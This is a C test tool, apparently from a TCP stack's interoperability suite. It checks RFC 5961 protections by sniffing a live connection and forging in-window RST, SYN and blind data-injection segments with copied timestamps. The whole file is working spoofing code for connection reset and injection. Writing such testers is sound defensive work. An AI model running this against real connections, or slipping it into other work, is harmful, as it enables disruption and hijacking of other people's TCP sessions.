/* RFC 5961 attacker for the interop tests: watches a live TCP connection toward DST:DPORT on an
 * interface (AF_PACKET, as an attacker that learnt the 4-tuple and roughly where the window is), then
 * forges segments from the client's side with guessed sequence numbers through a raw IPv4 socket:
 *   rst   RST with a sequence number inside the receive window but not RCV.NXT (RFC 5961 §3)
 *   syn   SYN with a sequence number inside the window (§4)
 *   data  data at RCV.NXT whose ACK is outside what the server could have sent (§5: blind injection)
 * Each forged segment carries the connection's last timestamp option, so it passes PAWS and reaches
 * the checks under test. Prints one JSON line with what was sent.
 *
 *   blind IFACE DST DPORT COUNT DURATION_MS
 * Sends COUNT rounds (one segment of each kind per round), spread over DURATION_MS. Exit 2 when no
 * segment of the connection was seen within 5 s. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FORGED_ID 0x5961 /* IP id of what we forge: the sniffer must not learn from its own segments */

struct conn {
  uint32_t src, dst; /* network order */
  uint16_t sport, dport;
  uint32_t seq, ack, tsval, tsecr;
  uint16_t win;
  int wscale_guess;
  int seen, has_ts;
};

static uint16_t csum(const void *data, size_t len, uint32_t acc) {
  const uint8_t *p = data;
  for (size_t i = 0; i + 1 < len; i += 2) acc += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1) acc += (uint32_t)p[len - 1] << 8;
  while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
  return (uint16_t)~acc;
}

static uint64_t now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

/* Reads what the packet socket has queued and keeps the newest client->server segment's numbers. */
static void sniff(int ps, struct conn *c, uint32_t dst, uint16_t dport, int wait_ms) {
  uint8_t f[2048];
  struct pollfd pfd = {.fd = ps, .events = POLLIN};
  while (poll(&pfd, 1, wait_ms) > 0) {
    wait_ms = 0;
    ssize_t n = recv(ps, f, sizeof(f), 0);
    if (n < 14 + 20 + 20 || f[12] != 0x08 || f[13] != 0x00) continue;
    const uint8_t *ip = f + 14;
    size_t ihl = (size_t)(ip[0] & 0xf) * 4;
    if (ip[9] != IPPROTO_TCP || (size_t)n < 14 + ihl + 20) continue;
    const uint8_t *t = ip + ihl;
    uint32_t d;
    memcpy(&d, ip + 16, 4);
    uint16_t dp = (uint16_t)(t[2] << 8 | t[3]);
    if (d != dst || dp != dport) continue;
    if (t[13] & 0x07) continue;                         /* SYN/FIN/RST: not a steady-state segment */
    if (ip[4] == FORGED_ID >> 8 && ip[5] == (FORGED_ID & 0xff)) continue; /* our own (the socket sees them) */
    uint16_t sp = (uint16_t)(t[0] << 8 | t[1]);
    if (c->seen && sp != c->sport) continue; /* stay on the first connection seen */
    memcpy(&c->src, ip + 12, 4);
    c->dst = d;
    c->sport = sp;
    c->dport = dp;
    c->seq = (uint32_t)t[4] << 24 | (uint32_t)t[5] << 16 | (uint32_t)t[6] << 8 | t[7];
    c->ack = (uint32_t)t[8] << 24 | (uint32_t)t[9] << 16 | (uint32_t)t[10] << 8 | t[11];
    c->win = (uint16_t)(t[14] << 8 | t[15]);
    size_t thl = (size_t)(t[12] >> 4) * 4;
    c->has_ts = 0;
    for (size_t i = 20; i < thl && 14 + ihl + i < (size_t)n;) {
      uint8_t k = t[i];
      if (k == 0) break;
      if (k == 1) { i++; continue; }
      if (i + 1 >= thl) break;
      uint8_t l = t[i + 1];
      if (l < 2 || i + l > thl) break;
      if (k == 8 && l == 10) {
        c->has_ts = 1;
        c->tsval = (uint32_t)t[i + 2] << 24 | (uint32_t)t[i + 3] << 16 | (uint32_t)t[i + 4] << 8 | t[i + 5];
        c->tsecr = (uint32_t)t[i + 6] << 24 | (uint32_t)t[i + 7] << 16 | (uint32_t)t[i + 8] << 8 | t[i + 9];
      }
      i += l;
    }
    c->seen = 1;
  }
}

static int forge(int rs, const struct conn *c, uint8_t flags, uint32_t seq, uint32_t ack, const char *payload) {
  uint8_t pkt[20 + 32 + 64];
  size_t plen = payload ? strlen(payload) : 0;
  size_t thl = 20 + (c->has_ts ? 12 : 0);
  size_t total = 20 + thl + plen;
  memset(pkt, 0, total);
  uint8_t *ip = pkt, *t = pkt + 20;
  ip[0] = 0x45;
  ip[2] = (uint8_t)(total >> 8), ip[3] = (uint8_t)total;
  ip[4] = FORGED_ID >> 8, ip[5] = FORGED_ID & 0xff;
  ip[6] = 0x40; /* DF */
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  memcpy(ip + 12, &c->src, 4);
  memcpy(ip + 16, &c->dst, 4);
  t[0] = (uint8_t)(c->sport >> 8), t[1] = (uint8_t)c->sport;
  t[2] = (uint8_t)(c->dport >> 8), t[3] = (uint8_t)c->dport;
  for (int i = 0; i < 4; i++) t[4 + i] = (uint8_t)(seq >> (24 - 8 * i)), t[8 + i] = (uint8_t)(ack >> (24 - 8 * i));
  t[12] = (uint8_t)((thl / 4) << 4);
  t[13] = flags;
  t[14] = (uint8_t)(c->win >> 8), t[15] = (uint8_t)c->win;
  if (c->has_ts) {
    uint8_t *o = t + 20;
    o[0] = 1, o[1] = 1, o[2] = 8, o[3] = 10;
    for (int i = 0; i < 4; i++) o[4 + i] = (uint8_t)(c->tsval >> (24 - 8 * i)), o[8 + i] = (uint8_t)(c->tsecr >> (24 - 8 * i));
  }
  if (plen) memcpy(t + thl, payload, plen);
  uint8_t pseudo[12];
  memcpy(pseudo, &c->src, 4);
  memcpy(pseudo + 4, &c->dst, 4);
  pseudo[8] = 0, pseudo[9] = IPPROTO_TCP;
  pseudo[10] = (uint8_t)((thl + plen) >> 8), pseudo[11] = (uint8_t)(thl + plen);
  uint32_t acc = 0;
  for (int i = 0; i < 12; i += 2) acc += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
  uint16_t cs = csum(t, thl + plen, acc);
  t[16] = (uint8_t)(cs >> 8), t[17] = (uint8_t)cs;
  struct sockaddr_in to = {.sin_family = AF_INET};
  memcpy(&to.sin_addr, &c->dst, 4);
  return sendto(rs, pkt, total, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)total ? 0 : -errno;
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: blind IFACE DST DPORT COUNT DURATION_MS\n");
    return 64;
  }
  unsigned ifindex = if_nametoindex(argv[1]);
  struct in_addr dst;
  if (!ifindex || inet_pton(AF_INET, argv[2], &dst) != 1) {
    fprintf(stderr, "blind: bad interface or address\n");
    return 64;
  }
  uint16_t dport = (uint16_t)atoi(argv[3]);
  long count = atol(argv[4]), duration = atol(argv[5]);
  int ps = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
  int rs = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (ps < 0 || rs < 0) {
    perror("blind: socket");
    return 1;
  }
  struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)ifindex};
  if (bind(ps, (struct sockaddr *)&ll, sizeof(ll)) != 0) {
    perror("blind: bind");
    return 1;
  }
  struct conn c = {0};
  uint64_t give_up = now_ms() + 5000;
  while (!c.seen && now_ms() < give_up) sniff(ps, &c, dst.s_addr, dport, 100);
  if (!c.seen) {
    printf("{\"error\":\"no segment of a connection to %s:%u seen\"}\n", argv[2], dport);
    return 2;
  }
  uint64_t rng = 0x9e3779b97f4a7c15ULL ^ (uint64_t)getpid();
  long sent_rst = 0, sent_syn = 0, sent_data = 0, errors = 0;
  uint64_t start = now_ms();
  for (long i = 0; i < count; i++) {
    sniff(ps, &c, dst.s_addr, dport, 0);
    rng ^= rng << 13, rng ^= rng >> 7, rng ^= rng << 17;
    /* Guesses inside the server's receive window (the client sends nothing after its request, so the
     * server's buffer is empty and its window far larger than 1000), never exactly RCV.NXT: an exact hit
     * is what RFC 5961 cannot and need not refuse. */
    uint32_t off = 1 + (uint32_t)(rng % 999);
    errors += forge(rs, &c, 0x04, c.seq + off, 0, NULL) != 0; /* RST */
    sent_rst++;
    errors += forge(rs, &c, 0x02, c.seq + off, 0, NULL) != 0; /* SYN */
    sent_syn++;
    errors += forge(rs, &c, 0x18, c.seq, c.ack + 0x80000000u, "EVIL-INJECTED-BYTES") != 0; /* PSH|ACK */
    sent_data++;
    if (duration > 0) {
      uint64_t due = start + (uint64_t)duration * (uint64_t)(i + 1) / (uint64_t)count;
      uint64_t n = now_ms();
      if (due > n) usleep((useconds_t)(due - n) * 1000);
    }
  }
  char s[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &c.src, s, sizeof(s));
  printf("{\"rst\":%ld,\"syn\":%ld,\"data\":%ld,\"errors\":%ld,\"src\":\"%s\",\"sport\":%u,\"timestamps\":%s}\n", sent_rst,
         sent_syn, sent_data, errors, s, c.sport, c.has_ts ? "true" : "false");
  return errors ? 1 : 0;
}
